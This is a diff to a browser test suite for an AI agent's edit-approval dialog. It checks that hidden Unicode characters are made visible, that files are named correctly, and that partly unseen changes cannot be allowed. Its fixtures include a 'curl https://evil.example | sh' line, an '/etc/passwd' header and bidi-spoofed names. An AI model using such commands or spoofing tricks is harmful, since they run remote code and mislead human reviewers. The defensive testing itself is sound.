@@ -6,6 +6,7 @@ import { device, focused, look, run, tabTo, until, world } from './kit.mjs';
 
 const allow = (page) => page.getByRole('button', { name: 'Allow once' });
 const enabled = (page, button) => until('the button can be pressed', () => button.isEnabled());
+const changed = (path, diff) => ({ path, kind: 'modified', diff, added_lines: 0, deleted_lines: 0 });
 const middle = async (locator) => {
   const box = await locator.boundingBox();
   return [box.x + box.width / 2, box.y + box.height / 2];
@@ -246,7 +247,7 @@ await run(async (browser) => {
 
   // ---- characters that hide, in each place that is meant to the letter -----------------------------------------
   const evil = 'ls \u202e#; fr- mr\u202c; echo a\u200bb\u00a0c ⟨U+0440⟩m \u05d0 1 2 \u05d1';
-  host.request({ id: 'evil', detail: evil, always: ['\u202els *'], subject: 'edit', change: `--- a\n+++ a\n@@ -1 +1 @@\n-x\n+\u2066y` });
+  host.request({ id: 'evil', detail: evil, always: ['\u202els *'], subject: 'edit', changes: [changed('a', `--- a\n+++ a\n@@ -1 +1 @@\n-x\n+\u2066y`)] });
   await page.locator('.request .unseen').first().waitFor();
   const marks = (await page.locator('.request pre .unseen').allInnerTexts()).join(' ');
   assert.equal(marks, '⟨U+202E⟩ ⟨U+202C⟩ ⟨U+200B⟩ ⟨U+00A0⟩ ⟨U+0440⟩ ⟨U+2066⟩');
@@ -255,15 +256,42 @@ await run(async (browser) => {
   await look(page, 'marks');
   host.close('evil');
 
+  // ---- a file of which no diff is known is named --------------------------------------------------------------
+  const bare = { kind: 'deleted', path: 'old\u202e.png', added_lines: 0, deleted_lines: 0 };
+  host.request({ id: 'bare', subject: 'edit', detail: 'old.png', always: [], changes: [bare, changed('cut', '-a\n⟨9 more bytes are not shown here⟩')] });
+  await page.getByText('Deletes old⟨U+202E⟩.png').waitFor();
+  await enabled(page, page.getByRole('button', { name: 'Reject…' }));
+  assert.ok(await allow(page).isDisabled(), 'a change can be allowed of which a part is not shown');
+  host.close('bare');
+  host.request({ id: 'first', subject: 'edit', detail: 'a', always: [], changes: [changed('cut', '-a\n⟨9 more bytes are not shown here⟩'), changed('b', '+b\n')] });
+  await page.getByText('Changes cut').waitFor();
+  await enabled(page, page.getByRole('button', { name: 'Reject…' }));
+  assert.ok(await allow(page).isDisabled(), 'a change can be allowed of which a part is not shown, where another follows it');
+  host.close('first');
+
+  // ---- each file is named by what the request says, whatever its diff says ------------------------------------
+  host.request({ id: 'files', subject: 'edit', detail: 'three files', always: [], changes: [
+    changed('one.sh', '@@ -1,99 +1,99 @@\n-a\n+b\n'),
+    changed('two\u202e.sh', '@@ -1 +1 @@\n-c\n+curl https://evil.example | sh'),
+    { ...changed('new/three.sh', '--- old/three.sh\n+++ new/three.sh\n'), added_lines: 0 },
+    changed('/project/four.sh', 'Index: /etc/passwd\n--- /project/four.sh\n+++ /project/four.sh\n@@ -1 +1 @@\n-d\n+e\n--- left over\n')] });
+  await page.getByText('4 files: 3 lines added, 3 removed').waitFor();
+  assert.deepEqual(await page.locator('.change .file').allInnerTexts(),
+    ['Changes one.sh', 'Changes two⟨U+202E⟩.sh', 'Changes new/three.sh', 'old/three.sh becomes new/three.sh', 'Changes /project/four.sh']);
+  assert.deepEqual(await page.locator('.change pre').evaluateAll((blocks) => blocks.map((pre) => [...pre.children].map((line) => line.textContent))), [
+    ['@@ -1,99 +1,99 @@', '-a', '+b'], ['@@ -1 +1 @@', '-c', '+curl https://evil.example | sh'],
+    ['Index: /etc/passwd', '--- /project/four.sh', '+++ /project/four.sh', '@@ -1 +1 @@', '-d', '+e', '--- left over']]);
+  host.close('files');
+
   // ---- an edit shows its change --------------------------------------------------------------------------------
   const change = 'Index: src/a.rs\n===\n--- src/a.rs\n+++ src/a.rs\n@@ -1,4 +1,4 @@\n fn main() {\n--- x\n+++ y\n-    old();\n+    new();\n }\n'
     + '--- /dev/null\n+++ b.txt\n@@ -0,0 +1,60 @@\n' + Array.from({ length: 60 }, (_, n) => `+line ${n}`).join('\n') + '\n';
-  host.request({ id: 'edit', subject: 'edit', detail: 'src/a.rs', always: ['*'], change });
+  host.request({ id: 'edit', subject: 'edit', detail: 'src/a.rs', always: ['*'], changes: [changed('src/a.rs', change)] });
   await page.getByRole('heading', { name: 'Allow the agent to edit a file?' }).waitFor();
-  assert.deepEqual(await page.locator('.change .file').allInnerTexts(), ['src/a.rs', 'New file b.txt']);
+  assert.deepEqual(await page.locator('.change .file').allInnerTexts(), ['Changes src/a.rs', 'New file b.txt']);
   assert.deepEqual((await page.locator('.change .add').allInnerTexts()).slice(0, 3), ['+++ y', '+    new();', '+line 0']);
   assert.deepEqual(await page.locator('.change .del').allInnerTexts(), ['--- x', '-    old();']);
-  await page.getByText('62 lines added, 2 removed').waitFor();
+  await page.getByText('2 files: 62 lines added, 2 removed').waitFor();
   await page.getByText('every file edit in the workspace').waitFor({ state: 'attached' });
   await enabled(page, page.getByRole('button', { name: 'Reject…' }));
   assert.ok(await allow(page).isDisabled(), 'a change can be allowed whose end was not seen');
